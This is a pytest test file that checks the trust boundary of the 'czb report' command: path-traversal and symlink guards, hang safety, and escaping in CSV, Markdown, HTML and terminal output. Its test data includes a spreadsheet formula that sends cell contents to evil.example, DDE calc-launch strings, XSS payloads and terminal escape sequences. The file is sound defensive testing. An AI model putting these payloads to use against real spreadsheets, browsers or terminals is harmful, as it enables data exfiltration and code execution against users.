"""The trust boundary of ``czb report`` (issue 17): result files and the embedding samples
they point to are untrusted input, and the exports are opened by spreadsheets, Markdown
renderers and browsers.

Every test runs ``czb report`` on crafted files and checks the effect: a secret outside
the results folder never reaches any output, nothing hangs, a hostile result file ends in
one ``error:`` line with exit 1, and every exported cell is inert.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest
from conftest import error_line, invoke

from czb.core import records as R

SECRET = "TOPSECRET-label-7f3a"


def assert_no_traceback(result) -> None:
    assert "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


def record(model: str = "pca", *, dataset: str = "toy", task: str = "clustering", value: float = 0.5,
           status: str = "ok", error: str | None = None, sample: str | None = None,
           parameters: dict | None = None, created: str = "2026-01-01T00:00:00+00:00") -> R.ResultRecord:
    metrics = [] if status != "ok" else [
        R.MetricRecord(name="adjusted_rand_index", value=value, values_raw=[value], params={})]
    return R.ResultRecord(
        czb_version="0.test", created_at=created, command=f"czb run --model {model}",
        host=R.HostRecord(python="3.11", platform="linux", n_threads=2),
        dataset=R.DatasetRecord(name=dataset, uri="file:///toy.h5ad", sha256=None, n_cells=30, n_genes=5),
        model=R.ModelRecord(name=model, kind="baseline", image_digest="in-process", parameters=parameters or {}),
        task=R.TaskRecord(name=task, implementation="clustering"), seeds=[0], status=status, error=error,
        metrics=metrics, embedding_sample=sample,
    )


def write_record(folder: Path, name: str, rec: R.ResultRecord) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(json.dumps(rec.model_dump(mode="json")))
    return path


def write_sample(path: Path, label: str = "typeA") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(0)
    X = np.vstack([rng.normal(size=(20, 4)), rng.normal(loc=5, size=(20, 4))]).astype(np.float32)
    labels = np.array([label] * 20 + ["typeB"] * 20)
    with path.open("wb") as f:
        np.savez_compressed(f, X=X, cells=np.arange(40), labels=labels, batches=np.array(["b0"] * 40))
    return path


def every_output(result, *files: Path) -> str:
    return result.output + "".join(f.read_text(errors="replace") for f in files if f.exists())


# ----------------------------------------------------------------------------- embedding samples


def test_sample_inside_the_results_folder_is_mapped(tmp_path):
    results = tmp_path / "results"
    write_sample(results / "embeddings" / "toy__pca.npz", label="insidelabel")
    write_record(results, "r.json", record(sample="embeddings/toy__pca.npz"))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out, "--map-cells", "40")
    assert result.exit_code == 0, result.output
    assert "insidelabel" in out.read_text() and "map skipped" not in result.stderr


def test_sample_elsewhere_inside_the_results_folder_given_is_mapped(tmp_path):
    results = tmp_path / "results"
    write_sample(results / "shared" / "s.npz", label="sharedlabel")
    write_record(results / "run1", "r.json", record(sample="../shared/s.npz"))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out, "--map-cells", "40")
    assert result.exit_code == 0 and "sharedlabel" in out.read_text(), result.output


@pytest.mark.parametrize("where", ["parent", "absolute", "symlink", "symlinked-folder", "hard-link", "nul"])
def test_sample_outside_the_results_folder_is_never_read(tmp_path, where):
    secret = write_sample(tmp_path / "private" / "secret.npz", label=SECRET)
    results = tmp_path / "work" / "results"
    if where == "parent":
        sample = "../../private/secret.npz"
    elif where == "absolute":
        sample = str(secret)
    elif where == "symlink":
        (results / "embeddings").mkdir(parents=True)
        (results / "embeddings" / "x.npz").symlink_to(secret)
        sample = "embeddings/x.npz"
    elif where == "hard-link":  # inside the folder by name, but the secret file itself
        (results / "embeddings").mkdir(parents=True)
        os.link(secret, results / "embeddings" / "x.npz")
        sample = "embeddings/x.npz"
    elif where == "nul":
        sample = "embeddings/x.npz\x00../../private/secret.npz"
    else:
        results.mkdir(parents=True)
        (results / "embeddings").symlink_to(secret.parent)
        sample = "embeddings/secret.npz"
    path = write_record(results, "r.json", record(sample=sample))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out)
    assert result.exit_code == 0, result.output
    assert SECRET not in every_output(result, out)
    assert f"{path}: map skipped" in result.stderr
    reason = "hard links" if where == "hard-link" else "not inside the results folder"
    assert reason in result.stderr and reason in out.read_text()
    assert str(secret) not in result.output  # the path a result names is not echoed either


def test_sample_of_a_result_given_as_a_file_stays_in_that_files_folder(tmp_path):
    write_sample(tmp_path / "secret.npz", label=SECRET)
    path = write_record(tmp_path / "results", "r.json", record(sample="../secret.npz"))
    out = tmp_path / "report.html"
    result = invoke("report", path, "--output", out)
    assert result.exit_code == 0 and SECRET not in every_output(result, out)


@pytest.mark.parametrize("kind", ["dev-stdin", "fifo", "dev-zero-link", "folder"])
def test_sample_that_is_not_a_regular_file_does_not_hang(tmp_path, kind):
    results = tmp_path / "results"
    (results / "embeddings").mkdir(parents=True)
    target = results / "embeddings" / "s.npz"
    if kind == "dev-stdin":
        sample = "/dev/stdin"
    elif kind == "fifo":
        os.mkfifo(target)
        sample = "embeddings/s.npz"
    elif kind == "dev-zero-link":
        target.symlink_to("/dev/zero")
        sample = "embeddings/s.npz"
    else:
        target.mkdir()
        sample = "embeddings/s.npz"
    write_record(results, "r.json", record(sample=sample))
    out = tmp_path / "report.html"
    # A subprocess whose stdin is a pipe that never ends: a read of it would hang.
    proc = subprocess.Popen([sys.executable, "-m", "czb", "report", str(results), "--output", str(out)],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _, stderr = proc.communicate(timeout=120)
    finally:
        proc.kill()
    assert proc.returncode == 0, stderr
    assert "map skipped" in stderr and out.exists()


@pytest.mark.parametrize("payload", ["not-a-zip", "object-array", "huge-header", "wrong-shape", "nan"])
def test_sample_with_hostile_content_is_skipped(tmp_path, payload):
    results = tmp_path / "results"
    target = results / "embeddings" / "s.npz"
    target.parent.mkdir(parents=True)
    if payload == "not-a-zip":
        target.write_bytes(SECRET.encode() * 10)
    elif payload == "object-array":
        np.savez(target, X=np.array([[SECRET, 1]] * 5, dtype=object), allow_pickle=True)
    elif payload == "huge-header":  # claims 800 GB in a few bytes: must not be allocated
        from numpy.lib import format as npy

        buffer = io.BytesIO()
        npy.write_array_header_1_0(buffer, {"descr": "<f4", "fortran_order": False, "shape": (10**11, 2)})
        with zipfile.ZipFile(target, "w") as zf:
            zf.writestr("X.npy", buffer.getvalue() + bytes(64))
    elif payload == "wrong-shape":
        np.savez(target, X=np.zeros(10, dtype=np.float32))
    else:
        np.savez(target, X=np.full((10, 3), np.nan, dtype=np.float32))
    write_record(results, "r.json", record(sample="embeddings/s.npz"))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out)
    assert result.exit_code == 0, result.output
    assert_no_traceback(result)
    assert "map skipped" in result.stderr and SECRET not in every_output(result, out)


# ----------------------------------------------------------------------------- result files


def test_deeply_nested_result_json_is_one_line_exit_1(tmp_path):
    for fmt in ("csv", "md", "table"):
        bad = tmp_path / f"results-{fmt}" / "deep.json"  # a warning is shown once per message
        bad.parent.mkdir()
        bad.write_text("[" * 100_000 + "]" * 100_000)
        result = invoke("report", bad.parent, "--format", fmt)
        assert result.exit_code == 1, result.output
        assert_no_traceback(result)
        # Found in a folder: named in a warning, and nothing readable is left.
        warning = [ln for ln in result.stderr.splitlines() if ln.startswith("warning:")]
        assert len(warning) == 1 and "deep.json" in warning[0] and "nested" in warning[0], result.output
        assert "none of the 1 result files" in error_line(result)
    # In a process of its own too: no crash, no traceback.
    done = subprocess.run([sys.executable, "-m", "czb", "report", str(bad), "--format", "csv"],
                          check=False, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize("depth", [70, 900])
def test_nested_but_parseable_result_json_is_refused(tmp_path, depth):
    data = record().model_dump(mode="json")
    data["model"]["parameters"] = {"p": json.loads("[" * depth + "]" * depth)}
    bad = tmp_path / "nested.json"
    bad.write_text(json.dumps(data))
    result = invoke("report", bad, "--format", "csv")
    assert result.exit_code == 1 and "nested" in error_line(result)
    assert_no_traceback(result)


def test_result_file_content_is_never_echoed(tmp_path):
    cases = {
        "text.json": f"{SECRET} is not json",
        "binary.json": b"\xff\xfe" + SECRET.encode(),
        "key.json": json.dumps({**record().model_dump(mode="json"), SECRET: 1}),
        "value.json": json.dumps({**record().model_dump(mode="json"), "status": SECRET}),
        "number.json": json.dumps({**record().model_dump(mode="json"), "seeds": [SECRET]}),
        "bigint.json": '{"seeds": [' + "9" * 5000 + "]}",
    }
    for name, content in cases.items():
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        result = invoke("report", path, "--format", "csv")
        assert result.exit_code == 1, (name, result.output)
        assert name in error_line(result) and SECRET not in result.output, (name, result.output)
        assert "9999999999" not in result.output
        assert_no_traceback(result)


def test_result_file_size_is_capped(tmp_path, monkeypatch):
    monkeypatch.setattr(R, "MAX_RESULT_BYTES", 10_000)
    path = write_record(tmp_path, "r.json", record(error=None, parameters={"pad": "x" * 20_000}))
    result = invoke("report", path, "--format", "csv")
    assert result.exit_code == 1 and "larger than the limit" in error_line(result)


@pytest.mark.parametrize("kind", ["fifo", "dev-stdin-link"])
def test_result_file_that_is_not_a_regular_file_does_not_hang(tmp_path, kind):
    results = tmp_path / "results"
    write_record(results, "ok.json", record())
    if kind == "fifo":
        os.mkfifo(results / "pipe.json")
    else:
        (results / "stdin.json").symlink_to("/dev/stdin")
    proc = subprocess.Popen([sys.executable, "-m", "czb", "report", str(results), "--format", "csv"],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        _, stderr = proc.communicate(timeout=120)
    finally:
        proc.kill()
    # Found in a folder: left out with a warning; the readable result is still reported.
    assert proc.returncode == 0, stderr
    assert "not a regular file" in stderr and "Traceback" not in stderr


# ----------------------------------------------------------------------------- exports


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def _hostile_results(tmp_path: Path) -> Path:
    results = tmp_path / "results"
    write_record(results, "base.json", record("pca", value=0.6, dataset=INJECTIONS[0]))
    for i, text in enumerate(INJECTIONS):
        write_record(results, f"m{i}.json", record(text, value=0.4, dataset=INJECTIONS[0], task="clustering"))
    write_record(results, "fail.json", record("failing", status="failed", dataset=INJECTIONS[0],
                                              error='=cmd|" /C calc"!A0 and <script>alert(1)</script>'))
    return results


def test_csv_cells_from_records_cannot_be_formulas(tmp_path):
    results = _hostile_results(tmp_path)
    result = invoke("report", results, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r", "\n")), (column, cell)
            if cell.startswith("-"):  # only numbers czb computed may start with a minus
                float(cell)
    models = {row["model"] for row in rows}
    assert "'" + INJECTIONS[0] in models and "'-2+3+cmd|' /C calc'!A0" in models
    negative = [row for row in rows if row["difference_vs_baseline"].startswith("-")]
    assert negative and all(float(r["difference_vs_baseline"]) == pytest.approx(-0.2) for r in negative)
    failed = next(row for row in rows if row["model"] == "failing")
    assert failed["verdict"].startswith("failed: =cmd")  # starts with the status, so inert


def test_markdown_escapes_html_pipes_and_newlines(tmp_path):
    results = tmp_path / "results"
    write_record(results, "base.json", record("pca", value=0.6))
    write_record(results, "evil.json", record("<img src=x onerror=alert(1)>|x\n## heading\n`code`[link](http://e)",
                                              value=0.4))
    write_record(results, "fail.json", record("failing", status="failed", error="line one\n| injected | row |\n<b>x"))
    result = invoke("report", results, "--format", "md")
    assert result.exit_code == 0, result.output
    text = result.stdout
    assert "<img" not in text and "<b>" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "\n## heading" not in text and "\n| injected" not in text
    assert "\\|x" in text and "\\`code\\`" in text and "\\[link\\]" in text
    for line in text.splitlines():
        if line.startswith("|"):  # every table row keeps its column count
            cells = [c for c in line.replace("\\|", "").split("|")][1:-1]
            assert len(cells) in (3, 4, 5), line


def test_html_escapes_every_record_string(tmp_path):
    evil = '"><script>alert(1)</script><svg onload=alert(2)>'
    results = tmp_path / "results"
    write_record(results, "base.json", record("pca", value=0.6, dataset=evil, task=evil))
    rec = record(evil, value=0.4, dataset=evil, task=evil, parameters={"p": evil})
    rec.command = evil
    rec.host.platform = evil
    rec.dataset.uri = evil
    rec.model.image_digest = evil
    rec.metrics[0].params = {"postprocessing": evil}
    write_record(results, "evil.json", rec)
    write_record(results, "fail.json", record("failing", status="failed", dataset=evil, error=evil))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out)
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert "<script" not in html and "<svg onload" not in html
    assert "&lt;script&gt;" in html


# ----------------------------------------------------------------------------- where -o writes (issue 17, fault run)


def _small_results(tmp_path: Path) -> Path:
    results = tmp_path / "results"
    write_record(results, "base.json", record("pca", value=0.6))
    write_record(results, "m.json", record("mine", value=0.4))
    return results


def test_output_fifo_is_written_into_not_replaced(tmp_path):
    import stat
    import threading

    results = _small_results(tmp_path)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    received = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = invoke("report", results, "--format", "csv", "-o", fifo)
    reader.join(timeout=60)
    assert result.exit_code == 0, result.output
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and received[0].decode().startswith("dataset,task,model")


def _device(path: Path, minor: int) -> Path:
    """A character device node in tmp (major 1: the kernel's null, zero, full...)."""
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    import stat

    try:
        os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, minor))
    except PermissionError:
        pytest.skip("no permission to make device nodes here")
    return path


def test_output_device_stays_a_device(tmp_path):
    import stat

    results = _small_results(tmp_path)
    null = _device(tmp_path / "mynull", 3)
    before = os.lstat(null)
    for fmt in ("csv", "md", "html"):
        result = invoke("report", results, "--format", fmt, "-o", null)
        assert result.exit_code == 0, result.output
        after = os.lstat(null)
        assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev and after.st_ino == before.st_ino
    # A device that refuses the write: one error line, and still the device.
    full = _device(tmp_path / "myfull", 7)
    result = invoke("report", results, "--format", "csv", "-o", full)
    assert result.exit_code == 1 and "No space left on device" in error_line(result)
    assert_no_traceback(result)
    assert stat.S_ISCHR(os.lstat(full).st_mode)


def test_output_symlink_to_a_file_keeps_the_link(tmp_path):
    results = _small_results(tmp_path)
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    target.chmod(0o640)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    result = invoke("report", results, "--format", "csv", "-o", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("dataset,task,model")
    assert target.stat().st_mode & 0o777 == 0o640  # the file's permissions are kept
    # A link to a file not made yet: the file is made where the link points.
    dangling = tmp_path / "dangling.md"
    dangling.symlink_to(tmp_path / "made.md")
    assert invoke("report", results, "--format", "md", "-o", dangling).exit_code == 0
    assert dangling.is_symlink() and (tmp_path / "made.md").read_text().startswith("Mean")
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]


@pytest.mark.parametrize("leads_to", ["/proc/self/fd/1", "/dev/fd/1", "/dev/stdout"])
def test_output_dev_stdout_goes_to_stdout(tmp_path, leads_to):
    results = _small_results(tmp_path)
    # What -o /dev/stdout does, through a link in tmp: the host's /dev is left alone should this break.
    stdout = tmp_path / "stdout"
    stdout.symlink_to(leads_to)
    command = [sys.executable, "-m", "czb", "report", str(results), "--format", "csv", "-o", str(stdout)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("dataset,task,model")
    # stdout appended to a file (">>"): what was there stays, the report follows.
    log = tmp_path / "log.txt"
    log.write_text("earlier line\n")
    with log.open("a") as f:
        done = subprocess.run(command, stdout=f, stderr=subprocess.PIPE, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    text = log.read_text()
    assert text.startswith("earlier line\ndataset,task,model") and text.count("dataset,task,model") == 1


@pytest.mark.parametrize("where", ["folder", "missing-folder", "file-as-folder"])
def test_output_that_cannot_be_a_file_is_one_line_exit_1(tmp_path, where):
    results = _small_results(tmp_path)
    if where == "folder":
        output, named = tmp_path / "adir", "it is a folder"
        output.mkdir()
    elif where == "missing-folder":
        output, named = tmp_path / "no" / "such" / "r.csv", f"folder {tmp_path / 'no' / 'such'} does not exist"
    else:
        (tmp_path / "afile").write_text("keep me\n")
        output, named = tmp_path / "afile" / "r.csv", "Not a directory"
    result = invoke("report", results, "--format", "csv", "-o", output)
    assert result.exit_code == 1, result.output
    assert_no_traceback(result)
    assert named in error_line(result) and str(output) in error_line(result)
    assert not (tmp_path / "no").exists()
    if where == "file-as-folder":
        assert (tmp_path / "afile").read_text() == "keep me\n"


# ----------------------------------------------------------------------------- sample shapes


def _sample_arrays(path: Path, **arrays) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as f:
        np.savez_compressed(f, **arrays)


ROWS = 40
LABELS = np.array(["a", "b"] * (ROWS // 2))


@pytest.mark.parametrize("arrays, expected", [
    ({"X": np.empty((4 * 10**8, 0), dtype=np.float32)}, "400,000,000 x 0"),
    ({"X": np.empty((10**6, 0), dtype=np.float32), "labels": np.empty((10**6,), dtype="<U0")}, "x 0"),
    ({"X": np.zeros((100_000, 1), dtype=np.float32)}, "100,000 x 1"),
    ({"X": np.zeros((5, 10_000), dtype=np.float32)}, "5 x 10,000"),
    ({"X": np.zeros((ROWS, 2, 2), dtype=np.float32)}, "2-D"),
    ({"X": np.ones((ROWS, 3), dtype=np.float32), "labels": LABELS[:-1]}, "labels"),
    ({"X": np.ones((ROWS, 3), dtype=np.float32), "batches": np.array(["b"] * (10**6))}, "batches"),
    ({"X": np.ones((ROWS, 3), dtype=np.float32), "cells": np.arange(10**6)}, "cells"),
    ({"X": np.ones((ROWS, 3), dtype=np.float32), "labels": np.empty((10**7,), dtype="<U0")}, "labels"),
])
def test_sample_with_shapes_that_are_no_sample_is_skipped_before_reading(tmp_path, arrays, expected):
    results = tmp_path / "results"
    _sample_arrays(results / "embeddings" / "s.npz", **arrays)
    write_record(results, "r.json", record(sample="embeddings/s.npz"))
    out = tmp_path / "report.html"
    # VmHWM is this process's own peak (ru_maxrss would carry the forking pytest's over exec).
    code = ("import sys\nfrom czb.cli import main\nsys.argv = ['czb', *sys.argv[1:]]\n"
            "try:\n    main()\nfinally:\n"
            "    hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
            "    print('peak-kb', hwm.split()[1], file=sys.stderr)\n")
    done = subprocess.run([sys.executable, "-c", code, "report", str(results), "--output", str(out)],
                          capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    assert "map skipped" in done.stderr and expected in done.stderr, done.stderr
    assert out.exists() and "Traceback" not in done.stderr
    peak_kb = int(done.stderr.split("peak-kb")[1].split()[0])
    assert peak_kb < 600_000, peak_kb  # the fault run saw 3.6 GB for the first case


def test_sample_with_a_few_thousand_dimensions_is_still_mapped(tmp_path):
    results = tmp_path / "results"
    rng = np.random.default_rng(0)
    X = np.vstack([rng.normal(size=(20, 3000)), rng.normal(loc=3, size=(20, 3000))]).astype(np.float32)
    _sample_arrays(results / "embeddings" / "s.npz", X=X, cells=np.arange(40), labels=LABELS)
    write_record(results, "r.json", record(sample="embeddings/s.npz"))
    out = tmp_path / "report.html"
    result = invoke("report", results, "--output", out, "--map-cells", "40")
    assert result.exit_code == 0, result.output
    assert "map skipped" not in result.stderr and "<svg" in out.read_text()


# ----------------------------------------------------------------------------- unreadable result files in a folder


def test_unreadable_results_in_a_folder_are_named_and_left_out(tmp_path):
    results = _small_results(tmp_path)
    (results / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    (results / "secret.json").write_text(f"{SECRET} not json")
    (results / "adir.json").mkdir()
    newer = record("future").model_dump(mode="json")
    newer["schema_version"] = 7
    (results / "newer.json").write_text(json.dumps(newer))
    out = tmp_path / "r.html"
    result = invoke("report", results, "-o", out)
    assert result.exit_code == 0, result.output
    warnings_ = " ".join(result.stderr.split())
    for name in ("deep.json", "secret.json", "adir.json", "newer.json"):
        assert f"warning: {results / name}:" in warnings_
    assert "written by a newer czb (schema 7); this czb reads schema 1" in warnings_
    assert "mine" in out.read_text() and SECRET not in out.read_text() + result.output
    for fmt in ("csv", "md", "table"):
        result = invoke("report", results, "--format", fmt, env={"COLUMNS": "300"})
        assert result.exit_code == 0, result.output
        assert_no_traceback(result)
        assert "mine" in result.stdout and "future" not in result.stdout and SECRET not in result.output


def test_unreadable_result_named_on_the_command_line_is_an_error(tmp_path):
    results = _small_results(tmp_path)
    newer = record("future").model_dump(mode="json")
    newer["schema_version"] = 2
    bad = tmp_path / "newer.json"
    bad.write_text(json.dumps(newer))
    result = invoke("report", results, bad, "--format", "csv")
    assert result.exit_code == 1
    assert error_line(result) == (f"error: {bad}: written by a newer czb (schema 2); "
                                  "this czb reads schema 1")


# ----------------------------------------------------------------------------- terminal escapes


ESCAPES = ["\x1b[2J", "\x1b]0;PWNED\x07", "\x9b31m", "\u202eevil", "\x1b[1A\x1b[2K", "a\rb", "\x00", "\u2066"]
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\x00", "\r")


def assert_no_raw_controls(text: str) -> None:
    for char in RAW:
        assert char not in text, (repr(char), text)


def test_terminal_table_shows_escape_sequences_escaped(tmp_path):
    results = tmp_path / "results"
    write_record(results, "base.json", record("pca", value=0.6, dataset="ds" + ESCAPES[0]))
    for i, text in enumerate(ESCAPES):
        write_record(results, f"m{i}.json", record("m" + text, value=0.4, dataset="ds" + ESCAPES[0],
                                                   task="clustering"))
    write_record(results, "fail.json", record("failing" + ESCAPES[1], status="failed",
                                              dataset="ds" + ESCAPES[0], error="boom" + "".join(ESCAPES)))
    for fmt in ("table", "csv", "md"):
        result = invoke("report", results, "--format", fmt, env={"COLUMNS": "500"})
        assert result.exit_code == 0, result.output
        assert_no_raw_controls(result.output)
        assert "\\x1b[2J" in result.output.replace("\\\\", "\\").replace("\\[", "[")
    # HTML too: a bidi override cannot reorder a name, and the file can be printed.
    out = tmp_path / "r.html"
    result = invoke("report", results, "-o", out)
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert_no_raw_controls(html)
    assert "m\\u202eevil" in html and "\\x1b]0;PWNED\\x07" in html


def test_hostile_result_file_name_is_printed_escaped(tmp_path):
    results = _small_results(tmp_path)
    (results / "\x1b]0;PWNED\x07\x1b[2J\u202e.json").write_text("{")
    result = invoke("report", results, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.output)
    assert "\\x1b]0;PWNED\\x07\\x1b[2J\\u202e.json" in result.stderr
